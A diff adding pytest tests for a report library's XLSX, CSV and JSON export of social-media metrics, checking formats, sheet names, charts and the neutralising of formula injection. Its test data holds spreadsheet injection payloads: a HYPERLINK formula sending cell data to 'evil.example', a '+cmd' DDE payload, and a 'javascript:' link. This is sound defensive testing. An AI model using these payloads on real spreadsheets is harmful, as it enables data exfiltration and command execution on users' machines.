@@ -1,0 +1,393 @@
+"""The report's spreadsheets: XLSX workbooks read back with openpyxl, the measurements as CSV
+(read back with the csv module) and JSON, and text from the public neutralised in every one."""
+
+from __future__ import annotations
+
+import csv
+import json
+import math
+import re
+import zipfile
+from datetime import date, datetime, timezone
+from pathlib import Path
+
+import openpyxl
+import polars as pl
+import pytest
+
+from cmflow import with_series_key
+from cmflow.builtin.reports.spreadsheets import (Column, Sheet, SheetChart, excel_sheet_name, measurement_table,
+                                                 measurements_sheet, neutralise, write_measurements_csv,
+                                                 write_measurements_json, write_xlsx)
+from cmflow.builtin.spreadsheet_formulas import neutralise as the_one_neutraliser
+
+HOSTILE = {
+    '=HYPERLINK("https://evil.example/?d="&A1,"Click")': '\'=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
+    "-2+3": "'-2+3",
+    "@SUM(A1)": "'@SUM(A1)",
+    "\t=1+1": "'\t=1+1",
+    "\r=1+1": "'\r=1+1",
+    "-20% off today": "'-20% off today",
+}
+"""Text from the public, and the cell it must become."""
+
+
+# -- neutralise -------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(text):
+    assert neutralise(text) == HOSTILE[text]
+
+
+@pytest.mark.parametrize("text", ["Maison Lumière", "", "3 = 3", "email@example.com", "'quoted", "100% butter"])
+def test_other_text_is_unchanged(text):
+    assert neutralise(text) == text
+
+
+def test_the_report_and_the_bad_rows_list_share_one_neutraliser():
+    from cmflow.builtin.sources import bad_rows
+
+    assert neutralise is the_one_neutraliser
+    assert bad_rows.neutralise is the_one_neutraliser
+
+
+# -- XLSX ---------------------------------------------------------------------------------------
+
+EVERY_KIND = [Column("account", "Account"), Column("posts", "Posts", "integer"),
+              Column("avg", "Average likes", "decimal"), Column("err", "ERR", "percent"),
+              Column("day", "Day", "date"), Column("at", "Published", "datetime"), Column("link", "Link", "url")]
+
+
+def every_kind_sheet() -> Sheet:
+    return Sheet(name="Accounts", title="Accounts, 16–22 Nov 2026", columns=EVERY_KIND, rows=[
+        {"account": "Maison Lumière", "posts": 1234567, "avg": 12.5, "err": 3.12, "day": date(2026, 11, 16),
+         "at": datetime(2026, 11, 16, 9, 30), "link": "https://www.instagram.com/p/abc/"},
+        {"account": "Trailhead", "posts": None, "avg": -2.5, "err": float("nan"), "day": None,
+         "at": datetime(2026, 11, 17, 18, 5, tzinfo=timezone.utc), "link": "javascript:alert(1)"},
+    ])
+
+
+def read(path: Path) -> openpyxl.Workbook:
+    return openpyxl.load_workbook(path)
+
+
+def unescaped(text: str) -> str:
+    """A cell's text as Excel shows it: the file writes a control character as ``_x000D_``
+    (OOXML's escape), which openpyxl leaves as it is."""
+    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), text)
+
+
+def test_numbers_stay_numbers_with_their_formats_and_empty_stays_empty(tmp_path):
+    path = tmp_path / "report.xlsx"
+    write_xlsx([every_kind_sheet()], path, title="Maison Lumière — November")
+    sheet = read(path)["Accounts"]
+    first = {c.column_letter: c for c in sheet[4]}
+    assert [c.value for c in sheet[3]] == ["Account", "Posts", "Average likes", "ERR", "Day", "Published", "Link"]
+    assert first["A"].value == "Maison Lumière"
+    assert (first["B"].value, first["B"].data_type, first["B"].number_format) == (1234567, "n", "#,##0")
+    assert (first["C"].value, first["C"].number_format) == (12.5, "#,##0.00")
+    assert first["D"].value == pytest.approx(0.0312) and first["D"].number_format == "0.00%"
+    assert first["E"].value == datetime(2026, 11, 16) and first["E"].number_format == "[$-409]d mmm yyyy"
+    assert first["F"].value == datetime(2026, 11, 16, 9, 30) and first["F"].number_format == "[$-409]d mmm yyyy hh:mm"
+    assert first["G"].value == "https://www.instagram.com/p/abc/"
+    assert first["G"].hyperlink.target == "https://www.instagram.com/p/abc/"
+    second = {c.column_letter: c for c in sheet[5]}
+    assert second["B"].value is None and second["D"].value is None and second["E"].value is None  # None, NaN
+    assert (second["C"].value, second["C"].data_type) == (-2.5, "n")  # a negative number is a number
+    assert second["F"].value == datetime(2026, 11, 17, 18, 5)  # the wall-clock time, zone dropped
+    assert second["G"].value == "javascript:alert(1)" and second["G"].hyperlink is None  # not a web link
+
+
+def test_the_sheet_has_a_title_a_frozen_header_filters_and_widths_from_its_content(tmp_path):
+    path = tmp_path / "report.xlsx"
+    sheet = every_kind_sheet()
+    sheet.columns.append(Column("caption", "Caption"))
+    sheet.columns.append(Column("n", "n", "integer"))
+    sheet.rows[0]["caption"] = "x" * 200
+    sheet.rows[0]["n"] = 1
+    write_xlsx([sheet], path, title="Maison Lumière — November")
+    book = read(path)
+    worksheet = book["Accounts"]
+    assert book.properties.title == "Maison Lumière — November"
+    assert worksheet["A1"].value == "Accounts, 16–22 Nov 2026" and worksheet["A1"].font.b
+    assert worksheet["A3"].font.b
+    assert worksheet.freeze_panes == "A4"
+    assert worksheet.auto_filter.ref == "A3:I5"
+    widths = {letter: int(d.width) for letter, d in worksheet.column_dimensions.items()}
+    # the longest content plus 2, at least 6 and at most 60 characters
+    assert widths["A"] == len("Maison Lumière") + 2
+    assert widths["B"] == len("1,234,567") + 2
+    assert widths["C"] == len("Average likes") + 2
+    assert widths["G"] == len("https://www.instagram.com/p/abc/") + 2
+    assert widths["H"] == 60
+    assert widths["I"] == 6
+
+
+def test_french_dates_name_their_months_in_french(tmp_path):
+    path = tmp_path / "rapport.xlsx"
+    write_xlsx([every_kind_sheet()], path, title="Rapport", locale="fr_FR")
+    cell = read(path)["Accounts"]["E4"]
+    assert cell.value == datetime(2026, 11, 16) and cell.number_format == "[$-40C]d mmm yyyy"
+
+
+@pytest.mark.parametrize(("names", "expected"), [
+    (["Posts: top/flop [Nov]"], ["Posts top flop Nov"]),
+    (["A" * 40], ["A" * 31]),
+    (["Instagram", "instagram", "INSTAGRAM"], ["Instagram", "instagram (2)", "INSTAGRAM (3)"]),
+    (["B" * 31, "B" * 31], ["B" * 31, "B" * 27 + " (2)"]),
+    (["'Quoted'", "", "???", "History"], ["Quoted", "Sheet", "Sheet (2)", "History (2)"]),
+    (["😀" * 20], ["😀" * 15]),  # an emoji is two of Excel's 31 characters
+])
+def test_sheet_names_are_made_valid_and_unique(names, expected):
+    taken: set[str] = set()
+    assert [excel_sheet_name(name, taken) for name in names] == expected
+
+
+def test_the_workbook_uses_the_valid_unique_names(tmp_path):
+    path = tmp_path / "report.xlsx"
+    sheets = [Sheet(name, "t", [Column("a", "A")], [{"a": "x"}])
+              for name in ("Posts: top/flop", "Posts? top*flop", "History")]
+    write_xlsx(sheets, path, title="t")
+    assert read(path).sheetnames == ["Posts top flop", "Posts top flop (2)", "History (2)"]
+
+
+def test_text_from_the_public_is_neutralised_in_the_workbook(tmp_path):
+    path = tmp_path / "report.xlsx"
+    rows = [{"caption": text, "link": text, "likes": -3} for text in HOSTILE]
+    sheet = Sheet("Posts", "=Posts", [Column("caption", "=Caption"), Column("link", "Link", "url"),
+                                      Column("likes", "Likes", "integer")], rows)
+    write_xlsx([sheet], path, title="@title")
+    worksheet = read(path)["Posts"]
+    for number, expected in enumerate(HOSTILE.values(), start=4):
+        for letter in "AB":
+            cell = worksheet[f"{letter}{number}"]
+            assert (unescaped(cell.value), cell.data_type) == (expected, "s")
+        assert (worksheet[f"C{number}"].value, worksheet[f"C{number}"].data_type) == (-3, "n")
+    assert worksheet["A1"].value == "'=Posts" and worksheet["A3"].value == "'=Caption"
+    with zipfile.ZipFile(path) as archive:
+        assert not any("<f>" in archive.read(name).decode() for name in archive.namelist()
+                       if name.startswith("xl/worksheets/"))  # no formula anywhere
+
+
+def test_a_line_chart_reads_its_series_from_the_table(tmp_path):
+    path = tmp_path / "report.xlsx"
+    columns = [Column("week", "Week", "date"), Column("err", "ERR", "percent"), Column("reach", "Reach", "integer")]
+    rows = [{"week": date(2026, 11, d), "err": e, "reach": r} for d, e, r in ((2, 3.1, 1000), (9, 4.4, 1200), (16, 3.0, 900))]
+    trend = Sheet("Trend", "ERR by week", columns, rows,
+                  chart=SheetChart("line", "week", ("err",), title="ERR by week", colours=("#E1306C",)))
+    plain = Sheet("Plain", "No chart", columns, rows)
+    write_xlsx([trend, plain], path, title="t")
+    with zipfile.ZipFile(path) as archive:
+        charts = [n for n in archive.namelist() if n.startswith("xl/charts/chart")]
+        assert charts == ["xl/charts/chart1.xml"]  # the sheet without a chart has none
+        xml = archive.read(charts[0]).decode()
+        drawing_of_trend = archive.read("xl/worksheets/_rels/sheet1.xml.rels").decode()
+    assert "<c:lineChart>" in xml
+    assert "<c:f>Trend!$A$4:$A$6</c:f>" in xml and "<c:f>Trend!$B$4:$B$6</c:f>" in xml
+    assert "<c:f>Trend!$B$3</c:f>" in xml  # the series is named by its header
+    assert 'formatCode="0%"' in xml and "E1306C" in xml
+    assert "drawing" in drawing_of_trend
+
+
+@pytest.mark.parametrize(("chart", "message"), [
+    (SheetChart("line", "month", ("err",)), "the chart's category 'month' is not a column (columns: week, err, name)"),
+    (SheetChart("column", "week", ("name",)), "the chart's value 'name' is not a numeric column (numeric columns: err)"),
+    (SheetChart("column", "week", ("err",), colours=("#000000", "#ffffff")), "the chart has 1 series and 2 colours"),
+])
+def test_a_chart_that_cannot_be_drawn_is_refused_before_writing(tmp_path, chart, message):
+    path = tmp_path / "report.xlsx"
+    sheet = Sheet("Trend", "t", [Column("week", "Week", "date"), Column("err", "ERR", "percent"), Column("name", "Name")],
+                  [], chart=chart)
+    with pytest.raises(ValueError) as error:
+        write_xlsx([sheet], path, title="t")
+    assert str(error.value) == f"sheet 'Trend': {message}"
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_text_in_a_numeric_column_is_refused_and_the_earlier_file_is_kept(tmp_path):
+    path = tmp_path / "report.xlsx"
+    path.write_bytes(b"the last good report")
+    sheet = Sheet("Accounts", "t", [Column("posts", "Posts", "integer")], [{"posts": 3}, {"posts": "12"}])
+    with pytest.raises(ValueError) as error:
+        write_xlsx([sheet], path, title="t")
+    assert str(error.value) == "sheet 'Accounts', column 'posts' (integer), row 2: '12' is not a number"
+    assert path.read_bytes() == b"the last good report"
+    assert [p.name for p in tmp_path.iterdir()] == ["report.xlsx"]  # no temporary file left
+
+
+def test_an_unknown_column_kind_is_refused(tmp_path):
+    sheet = Sheet("Days", "t", [Column("share", "Share", "percentage")], [])
+    with pytest.raises(ValueError) as error:
+        write_xlsx([sheet], tmp_path / "r.xlsx", title="t")
+    assert str(error.value) == ("sheet 'Days', column 'share': kind 'percentage' is not one of date, datetime, "
+                                "decimal, integer, percent, text, url")
+
+
+def test_a_link_excel_would_refuse_is_written_as_text(tmp_path):
+    path = tmp_path / "r.xlsx"
+    long_anchor = "https://example.com/#" + "a" * 300
+    too_long = "https://example.com/" + "b" * 2100
+    write_xlsx([Sheet("Links", "t", [Column("link", "Link", "url")], [{"link": long_anchor}, {"link": too_long}])],
+               path, title="t")
+    sheet = read(path)["Links"]
+    assert (sheet["A4"].value, sheet["A4"].hyperlink) == (long_anchor, None)
+    assert (sheet["A5"].value, sheet["A5"].hyperlink) == (too_long, None)
+
+
+def test_a_text_date_is_refused(tmp_path):
+    sheet = Sheet("Days", "t", [Column("day", "Day", "date")], [{"day": "2026-11-16"}])
+    with pytest.raises(ValueError, match=r"sheet 'Days', column 'day' \(date\), row 1: '2026-11-16' is not a date"):
+        write_xlsx([sheet], tmp_path / "r.xlsx", title="t")
+
+
+def test_a_workbook_needs_a_sheet(tmp_path):
+    with pytest.raises(ValueError, match="at least one sheet"):
+        write_xlsx([], tmp_path / "r.xlsx", title="t")
+
+
+def test_long_text_is_cut_to_what_a_cell_holds(tmp_path):
+    path = tmp_path / "r.xlsx"
+    write_xlsx([Sheet("Posts", "t", [Column("caption", "Caption")], [{"caption": "é" * 40_000}])], path, title="t")
+    value = read(path)["Posts"]["A4"].value
+    assert len(value) == 32_767 and value.endswith("é…")
+
+
+# -- the measurements as CSV, JSON and a sheet ----------------------------------------------------
+
+def measurements() -> pl.DataFrame:
+    """Two metrics, two periods, an overall series and two accounts (one named by the public)."""
+    rows = [
+        # period, metric, unit, value, reason, platform, account, rank
+        ("current", "engagement_rate_by_reach", "%", 3.12, None, None, None, None),
+        ("previous_period", "engagement_rate_by_reach", "%", 4.0, None, None, None, None),
+        ("current", "engagement_rate_by_reach", "%", None, "reach is 0", "instagram", "=HYPERLINK(\"x\")", None),
+        ("current", "followers", "followers", 1200.0, None, "instagram", "Maison Lumière\nParis", None),
+        ("previous_period", "followers", "followers", 1000.0, None, "instagram", "Maison Lumière\nParis", None),
+        ("current", "follower_growth", "followers", -2.5, None, "instagram", "@SUM(A1)", None),
+        ("current", "tiny", "count", 0.00001, None, None, None, None),
+    ]
+    frame = pl.DataFrame(rows, schema={"period": pl.String, "metric": pl.String, "unit": pl.String,
+                                       "value": pl.Float64, "reason": pl.String, "platform": pl.String,
+                                       "account": pl.String, "rank": pl.Int64}, orient="row")
+    bounds = {"current": (date(2026, 11, 16), date(2026, 11, 22)),
+              "previous_period": (date(2026, 11, 9), date(2026, 11, 15))}
+    frame = frame.with_columns(
+        pl.lit("posts").alias("basis"),
+        pl.col("period").replace_strict({k: v[0] for k, v in bounds.items()}, return_dtype=pl.Date).alias("period_start"),
+        pl.col("period").replace_strict({k: v[1] for k, v in bounds.items()}, return_dtype=pl.Date).alias("period_end"))
+    return with_series_key(frame)
+
+
+def comparisons(frame: pl.DataFrame) -> pl.DataFrame:
+    """As the compare stage makes them: previous period for every current series, last year for one."""
+    current = frame.filter(pl.col("period") == "current")
+    previous = frame.filter(pl.col("period") == "previous_period").select("metric", "series_key",
+                                                                          pl.col("value").alias("previous_value"))
+    by_previous = current.join(previous, on=["metric", "series_key"], how="left").with_columns(
+        pl.lit("previous_period").alias("comparison"),
+        (pl.col("value") - pl.col("previous_value")).alias("change"),
+        ((pl.col("value") - pl.col("previous_value")) / pl.col("previous_value") * 100).alias("change_pct"),
+        pl.when(pl.col("previous_value").is_null()).then(pl.lit("no value for the comparison period"))
+        .alias("change_reason"))
+    by_year = current.filter(pl.col("metric") == "followers").with_columns(
+        pl.lit(800.0).alias("previous_value"), pl.lit("same_period_last_year").alias("comparison"),
+        pl.lit(400.0).alias("change"), pl.lit(50.0).alias("change_pct"), pl.lit(None, dtype=pl.String).alias("change_reason"))
+    return pl.concat([by_previous, by_year.select(by_previous.columns)])
+
+
+HEADER = ["metric", "metric_label", "period", "period_start", "period_end", "platform", "account", "rank", "value",
+          "unit", "reason", "basis",
+          "previous_period_value", "change_vs_previous_period", "change_pct_vs_previous_period",
+          "change_reason_vs_previous_period",
+          "same_period_last_year_value", "change_vs_same_period_last_year", "change_pct_vs_same_period_last_year",
+          "change_reason_vs_same_period_last_year"]
+
+
+def test_the_measurement_table_has_a_row_per_metric_period_and_series_with_its_comparisons():
+    frame = measurements()
+    columns, rows = measurement_table(frame, comparisons(frame), metric_labels={"followers": "Abonnés"})
+    assert [c.key for c in columns] == HEADER
+    assert [(r["metric"], r["period"], r["account"]) for r in rows] == [
+        ("engagement_rate_by_reach", "previous_period", None),
+        ("engagement_rate_by_reach", "current", None),
+        ("engagement_rate_by_reach", "current", "=HYPERLINK(\"x\")"),
+        ("follower_growth", "current", "@SUM(A1)"),
+        ("followers", "previous_period", "Maison Lumière\nParis"),
+        ("followers", "current", "Maison Lumière\nParis"),
+        ("tiny", "current", None)]
+    followers = rows[5]
+    assert followers["metric_label"] == "Abonnés" and rows[0]["metric_label"] == "ERR (reach)"
+    assert (followers["previous_period_value"], followers["change_vs_previous_period"],
+            followers["change_pct_vs_previous_period"]) == (1000.0, 200.0, 20.0)
+    assert (followers["same_period_last_year_value"], followers["change_pct_vs_same_period_last_year"]) == (800.0, 50.0)
+    assert rows[1]["change_vs_previous_period"] == pytest.approx(-0.88)
+    assert rows[1]["same_period_last_year_value"] is None
+    assert rows[0]["previous_period_value"] is None  # a previous period's row has no comparison of its own
+
+
+def read_csv(path: Path) -> list[dict[str, str]]:
+    with path.open(encoding="utf-8-sig", newline="") as source:
+        return list(csv.DictReader(source))
+
+
+def test_the_measurements_csv_is_what_excel_and_dashboards_read(tmp_path):
+    frame = measurements()
+    path = tmp_path / "measurements.csv"
+    write_measurements_csv(frame, path, comparisons=comparisons(frame))
+    assert path.read_bytes().startswith(b"\xef\xbb\xbfmetric,metric_label,period,")  # the BOM Excel needs
+    rows = read_csv(path)
+    assert list(rows[0]) == HEADER
+    current_err, no_reach, growth, _, followers, tiny = rows[1:]
+    assert (current_err["value"], current_err["period_start"], current_err["period_end"]) == ("3.12", "2026-11-16", "2026-11-22")
+    assert current_err["previous_period_value"] == "4" and current_err["change_pct_vs_previous_period"] == "-22"
+    assert current_err["same_period_last_year_value"] == ""  # no value: an empty field
+    assert (no_reach["value"], no_reach["reason"], no_reach["account"]) == ("", "reach is 0", "'=HYPERLINK(\"x\")")
+    assert (growth["value"], growth["account"]) == ("-2.5", "'@SUM(A1)")  # a negative number stays a number
+    assert followers["account"] == "Maison Lumière\nParis"  # a line break inside a quoted field
+    assert (followers["value"], followers["change_vs_previous_period"]) == ("1200", "200")
+    assert tiny["value"] == "0.00001"
+    assert '"Maison Lumière\nParis"' in path.read_text(encoding="utf-8-sig")
+
+
+def test_the_measurements_json_is_a_list_of_objects_with_numbers_as_numbers(tmp_path):
+    frame = measurements()
+    path = tmp_path / "measurements.json"
+    write_measurements_json(frame, path, comparisons=comparisons(frame))
+    rows = json.loads(path.read_text(encoding="utf-8"))
+    assert isinstance(rows, list) and len(rows) == 7 and list(rows[0]) == HEADER
+    current_err, no_reach, growth, _, followers = rows[1:6]
+    assert current_err["value"] == 3.12 and current_err["period_start"] == "2026-11-16"
+    assert current_err["change_vs_previous_period"] == pytest.approx(-0.88)
+    assert followers["value"] == 1200 and isinstance(followers["value"], int)
+    assert followers["account"] == "Maison Lumière\nParis"
+    assert (no_reach["value"], no_reach["reason"], no_reach["account"]) == (None, "reach is 0", "'=HYPERLINK(\"x\")")
+    assert (growth["value"], growth["account"]) == (-2.5, "'@SUM(A1)")
+
+
+def test_measurements_without_comparisons_or_rows(tmp_path):
+    frame = measurements()
+    write_measurements_csv(frame, tmp_path / "m.csv")
+    assert list(read_csv(tmp_path / "m.csv")[0]) == HEADER[:12]
+    write_measurements_csv(None, tmp_path / "none.csv")
+    assert (tmp_path / "none.csv").read_bytes() == (
+        b"\xef\xbb\xbfmetric,metric_label,period,period_start,period_end,rank,value,unit,reason,basis\r\n")
+    write_measurements_json(frame.head(0), tmp_path / "none.json")
+    assert json.loads((tmp_path / "none.json").read_text(encoding="utf-8")) == []
+
+
+def test_the_measurements_sheet_writes_rates_as_percentages(tmp_path):
+    frame = measurements()
+    path = tmp_path / "report.xlsx"
+    write_xlsx([measurements_sheet(frame, comparisons(frame), name="Données", title="Mesures")], path,
+               title="t", locale="fr")
+    sheet = read(path)["Données"]
+    header = [c.value for c in sheet[3]]
+    assert header == HEADER
+    followers = {header[c.column - 1]: c for c in sheet[9]}
+    assert followers["account"].value == "Maison Lumière\nParis"
+    assert followers["change_pct_vs_previous_period"].value == pytest.approx(0.2)
+    assert followers["change_pct_vs_previous_period"].number_format == "0.00%"
+    assert followers["period_start"].value == datetime(2026, 11, 16)
+    assert sheet["G6"].value == "'=HYPERLINK(\"x\")"
+    assert not math.isnan(followers["value"].value) and followers["value"].value == 1200
